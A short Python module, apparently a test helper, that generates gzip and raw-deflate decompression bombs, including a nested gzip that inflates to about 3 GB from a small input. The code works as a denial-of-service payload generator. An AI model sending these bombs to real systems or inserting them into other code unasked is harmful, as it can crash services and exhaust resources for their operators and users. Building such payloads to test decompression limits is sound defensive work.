"""Small data that inflates to gigabytes, made without ever holding what it inflates to."""

from __future__ import annotations

import zlib
from functools import cache

PIECE = bytes(64 * 1024)
MEMBER = 256
"""Pieces in one member of a bomb: 16 MB, which take a thousandth of that on the wire."""
MEMBERS = 192
"""Members of a whole bomb, 3 GB."""


@cache
def gzip_member() -> bytes:
    """A gzip member; many of them after each other are one gzip file."""
    return _packed(31, zlib.Z_FINISH)


@cache
def deflate_piece() -> bytes:
    """Raw deflate that ends on a byte and refers to nothing before it, so that it can stand many times."""
    return _packed(-15, zlib.Z_FULL_FLUSH)


@cache
def nested() -> bytes:
    """A gzip file of a gzip bomb."""
    packer = zlib.compressobj(wbits=31)
    return b"".join(packer.compress(gzip_member()) for _ in range(MEMBERS)) + packer.flush()


def _packed(wbits: int, end: int) -> bytes:
    packer = zlib.compressobj(wbits=wbits)
    return b"".join(packer.compress(PIECE) for _ in range(MEMBER)) + packer.flush(end)
